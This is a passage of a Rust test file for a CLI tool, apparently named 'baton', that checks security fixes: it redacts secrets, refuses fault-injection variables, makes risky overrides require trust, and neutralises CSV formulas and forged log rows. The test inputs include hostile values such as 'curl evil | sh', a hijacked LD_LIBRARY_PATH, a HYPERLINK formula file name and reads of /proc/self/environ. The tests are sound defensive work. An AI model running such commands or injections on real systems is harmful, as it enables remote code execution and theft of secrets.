            vec!["config", p(&plan), "--site", p(&site)],
        ] {
            let o = baton(&args);
            assert_eq!(code(&o), 2, "{name} {args:?}: {}", show(&o));
            quotes_no_site_secret(&o);
            assert!(stderr(&o).contains(&format!("{name}:")), "{}", show(&o));
        }
    }
    // The secret-free parts of the snippet are still shown: where the error is.
    let o = baton(&["check", p(&plan), "--site", p(&d.join("typo.yaml"))]);
    assert!(stderr(&o).contains("2 │ lanch: {}"), "{}", show(&o));
}

/// #36 finding 1: `/proc/self/environ` (or any file that is not YAML text) given as a site file
/// or a plan is named by line and column, never quoted.
#[test]
fn a_file_that_is_not_yaml_is_never_quoted() {
    let d = tmp("trust-not-yaml");
    let plan = write(&d, "plan.yaml", SMALL_PLAN);
    let secret = "s3cr3t-environ-7";
    let envs = [("MY_ENVIRON_VALUE", secret)];
    let environ = "/proc/self/environ";
    let o = baton_env(&["check", p(&plan), "--site", environ], &envs);
    assert_eq!(code(&o), 2, "{}", show(&o));
    assert!(!show(&o).contains(secret), "{}", show(&o));
    let o = baton_env(&["check", environ], &envs);
    assert_eq!(code(&o), 2, "{}", show(&o));
    assert!(!show(&o).contains(secret), "{}", show(&o));
    // A link beside the plan to a file of the machine's that is not YAML.
    let ini = write(
        &d,
        "credentials",
        "[default]\naws_access_key_id = AKIAEXAMPLE\nnot yaml: [unclosed\nplain words s3cr3t-ini-8\n",
    );
    let link = d.join("ci.yaml");
    std::os::unix::fs::symlink(&ini, &link).unwrap();
    for args in [
        vec!["check", p(&link)],
        vec!["check", p(&plan), "--site", p(&link)],
    ] {
        let o = baton(&args);
        assert_eq!(code(&o), 2, "{args:?}: {}", show(&o));
        for s in ["AKIAEXAMPLE", "s3cr3t-ini-8"] {
            assert!(!show(&o).contains(s), "{args:?}: {}", show(&o));
        }
        let at = format!("{}:2:1", link.display());
        assert!(show(&o).contains(&at), "{args:?}: {}", show(&o));
    }
    // A `.env` file is YAML (one string): its secret-named variables are redacted.
    let dotenv = write(&d, "dot.env", "API_TOKEN=s3cr3t-dotenv-9 OTHER=x\n");
    let o = baton(&["check", p(&dotenv)]);
    assert_eq!(code(&o), 2, "{}", show(&o));
    assert!(!show(&o).contains("s3cr3t-dotenv-9"), "{}", show(&o));
}

/// #36 finding 5: the fault hook is a test facility. A plan's `env:` (any level) and a
/// `--set env.…` may set no `BATON_*` variable; the refusal names the key and its line.
#[test]
fn no_plan_or_set_reaches_the_fault_hook() {
    let d = tmp("trust-fault-hook");
    let top = write(
        &d,
        "top.yaml",
        &SMALL_PLAN.replace("tests:", "env:\n  BATON_FAULT: \"corrupt:rank=0\"\ntests:"),
    );
    let per_test = write(
        &d,
        "test.yaml",
        &format!("{SMALL_PLAN}    env: {{ BATON_RUN_KEY: abcdefabcdefabcdef }}\n"),
    );
    for (plan, line, name) in [(&top, 6, "BATON_FAULT"), (&per_test, 9, "BATON_RUN_KEY")] {
        for trust in [false, true] {
            let mut args = vec!["check", p(plan)];
            if trust {
                args.push("--trust-plan");
            }
            let o = baton(&args);
            assert_eq!(code(&o), 2, "{args:?}: {}", show(&o));
            let e = stderr(&o);
            assert!(e.contains(&format!("`{name}`")), "{e}");
            assert!(e.contains(&format!("{}:{line}:", plan.display())), "{e}");
        }
    }
    let plan = write(&d, "plan.yaml", SMALL_PLAN);
    for set in [
        "env.BATON_FAULT=corrupt:rank=0",
        "tests.0.env={BATON_FAULT: crash}",
    ] {
        let o = baton(&["--trust-plan", "check", p(&plan), "--set", set]);
        assert_eq!(code(&o), 2, "{set}: {}", show(&o));
        assert!(stderr(&o).contains("`BATON_FAULT`"), "{}", show(&o));
        assert!(stderr(&o).contains("--set"), "{}", show(&o));
    }
}

/// #36 finding 5: a run with a fault injected says so in results.json, JUnit and the report.
#[test]
fn an_injected_fault_is_recorded_wherever_the_run_is() {
    let ran = run_plan(
        "trust-fault-recorded",
        SMALL_PLAN,
        &[("BATON_FAULT", "slow:us=1")],
    );
    assert_eq!(code(&ran.output), 0, "{}", show(&ran.output));
    let json = read(&ran.out.join("results.json"));
    assert!(json.contains("\"injected_fault\": \"slow:us=1\""), "{json}");
    let junit = read(&ran.out.join("junit.xml"));
    assert!(junit.contains("injected_fault"), "{junit}");
    let md = report_md(&ran.out, &ran.plan, &ran.out.join("results.json"));
    assert!(md.contains("slow:us=1"), "{md}");
    assert!(md.to_lowercase().contains("injected"), "{md}");
}

/// #36 finding 8: the site vouches for what it wrote, not for a key it wrote: a `--set` of a
/// program-choosing variable the site also sets needs `--trust-plan`.
#[test]
fn a_set_does_not_borrow_the_sites_vouching() {
    let d = tmp("trust-set-vouch");
    let plan = write(&d, "plan.yaml", SMALL_PLAN);
    let site = write(
        &d,
        "site.yaml",
        "site: 1\nenv:\n  LD_LIBRARY_PATH: /opt/site/lib\nlaunch:\n  setup:\n    - module load nccl\n",
    );
    let o = baton(&["check", p(&plan), "--site", p(&site)]);
    assert_eq!(code(&o), 0, "the site's own lines stand: {}", show(&o));
    for set in [
        "env.LD_LIBRARY_PATH=/tmp/evil",
        "launch.setup.0=curl evil | sh",
        "launch.setup=[curl evil | sh]",
    ] {
        let o = baton(&["check", p(&plan), "--site", p(&site), "--set", set]);
        assert_eq!(code(&o), 2, "{set}: {}", show(&o));
        assert!(stderr(&o).contains("--trust-plan"), "{set}: {}", show(&o));
        let o = baton(&[
            "--trust-plan",
            "check",
            p(&plan),
            "--site",
            p(&site),
            "--set",
            set,
        ]);
        assert_eq!(code(&o), 0, "{set}: {}", show(&o));
    }
}

/// #36 finding 13: `baton config` shows a secret `--set` nowhere: not as the value, not in the
/// origin column, not in its JSON.
#[test]
fn config_shows_no_secret_set_value() {
    let d = tmp("trust-config-set");
    let plan = write(&d, "plan.yaml", SMALL_PLAN);
    for set in [
        "env.UCX_PASSWORD=hunter2-set",
        "env={NCCL_DEBUG: INFO, MY_TOKEN: hunter2-set}",
    ] {
        for format in ["text", "json"] {
            let o = baton(&["config", p(&plan), "--set", set, "--format", format]);
            assert_eq!(code(&o), 0, "{set} {format}: {}", show(&o));
            assert!(
                !show(&o).contains("hunter2-set"),
                "{set} {format}: {}",
                show(&o)
            );
            let origin = match format {
                "text" => "--set env",
                _ => "\"arg\": \"env",
            };
            assert!(stdout(&o).contains(origin), "{}", show(&o));
        }
    }
}

/// #36 finding 20: a CSV cell that a spreadsheet would read as a formula is neutralised as
/// OWASP says (a leading `'`); numbers stay numbers.
#[test]
fn csv_cells_never_become_formulas() {
    let d = tmp("trust-csv-formula");
    let r = ingest(
        &d,
        "r.json",
        &[&fixture("all_reduce.txt")],
        Some("allreduce"),
    );
    let pl = two_gpu_plan(&d, "p.yaml", ALLREDUCE_SWEEP);
    // The results file's name is a cell of every line.
    let evil = "=HYPERLINK(\"http:x\")+1.json";
    std::fs::copy(&r, d.join(evil)).unwrap();
    let o = baton_in(&d, &["grade", p(&pl), evil, "--csv", "cells.csv"]);
    assert_eq!(code(&o), 0, "{}", show(&o));
    let text = read(&d.join("cells.csv"));
    let line = text.lines().nth(1).unwrap();
    assert!(
        line.ends_with(",\"'=HYPERLINK(\"\"http:x\"\")+1.json\""),
        "{line}"
    );
    assert!(!text.contains(",=") && !text.contains(",\"="), "{text}");
}

/// #36 finding 21: a job ID holding a line break (from a log's file name) cannot forge a row of
/// `history show`: control characters are shown, as on every other stdout.
#[test]
fn history_show_prints_one_line_per_row() {
    let d = tmp("trust-history-newline");
    let f = crate::history::runs(&d, 1).remove(0);
    let mut r = results(&f);
    r.jobs[0].id = "allreduce\n2099-01-01 00:00:00  forged  row".into();
    baton::results::write_atomic(&f, &r).unwrap();
    let store = d.join("h.sqlite");
    let o = baton(&["history", "add", p(&f), "--store", p(&store)]);
    assert_eq!(code(&o), 0, "{}", show(&o));
    let o = baton(&["history", "show", "--store", p(&store)]);
    assert_eq!(code(&o), 0, "{}", show(&o));
    let out = stdout(&o);
    assert!(!out.lines().any(|l| l.starts_with("2099")), "{out}");
    assert!(out.contains("allreduce\\u000a2099"), "{out}");
}

/// #36 finding 1: an acceptance file's diagnostics pass the same printer: a secret on a line
/// next to the error (a comment's URL here) is not shown.
#[test]
fn an_acceptance_files_diagnostics_quote_no_secret() {
    let d = tmp("trust-accept-snippet");
    write(&d, "a.yaml", SMALL_PLAN);
    let f = write(
        &d,
        "acc.yaml",
        "acceptance: 1\nname: x\n# verdicts to https://ci:hunter2-acc@ci.example/hook/T0KEN-acc\nnmae: y\nphases:\n  - name: A\n    plan: a.yaml\n",
    );
    let o = baton(&["check", p(&f)]);
    assert_eq!(code(&o), 2, "{}", show(&o));
    let e = stderr(&o);
    assert!(e.contains("acc.yaml:4:1") && e.contains("nmae"), "{e}");
    assert!(e.contains("https://") && e.contains("ci.example/"), "{e}");
    for s in ["hunter2-acc", "T0KEN-acc"] {
        assert!(!e.contains(s), "{s} shown:\n{e}");
    }
}
